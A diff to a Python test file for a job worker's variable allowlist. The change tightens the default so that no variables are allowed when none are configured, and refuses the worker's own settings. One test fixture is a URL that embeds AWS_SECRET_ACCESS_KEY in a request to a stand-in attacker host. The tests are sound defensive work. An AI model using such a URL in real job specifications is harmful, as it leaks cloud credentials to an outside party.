@@ -72,7 +72,12 @@ def test_a_job_may_name_only_the_variables_the_worker_allows() -> None:
     with pytest.raises(Refused, match=re.escape("variable AWS_SECRET_ACCESS_KEY is not allowed by "
                                                 "INGEST_SOURCE_VARS (SHOP_*, MOCK_URL)")):
         narrow.check_variables(spec(url="http://evil.example/?x=${AWS_SECRET_ACCESS_KEY}"))
-    permissions().check_variables(spec(url="${AWS_SECRET_ACCESS_KEY}"))  # unset: any but the worker's own
+    with pytest.raises(Refused, match=re.escape("variable AWS_SECRET_ACCESS_KEY is not allowed by INGEST_SOURCE_VARS "
+                                                "(unset: no variables); allow what the worker's sources need in its "
+                                                "environment, e.g. INGEST_SOURCE_VARS=CRM_*,SHOP_TOKEN")):
+        permissions().check_variables(spec(url="${AWS_SECRET_ACCESS_KEY}"))  # unset: none
+    with pytest.raises(Refused, match="one of the worker's own settings"):  # even when every other one is allowed
+        Permissions.of(Settings(source_vars="*")).check_variables(spec(url="${DATABASE_URL}"))
 
 
 def test_a_catalog_cannot_grant_a_worker_s_permissions() -> None:
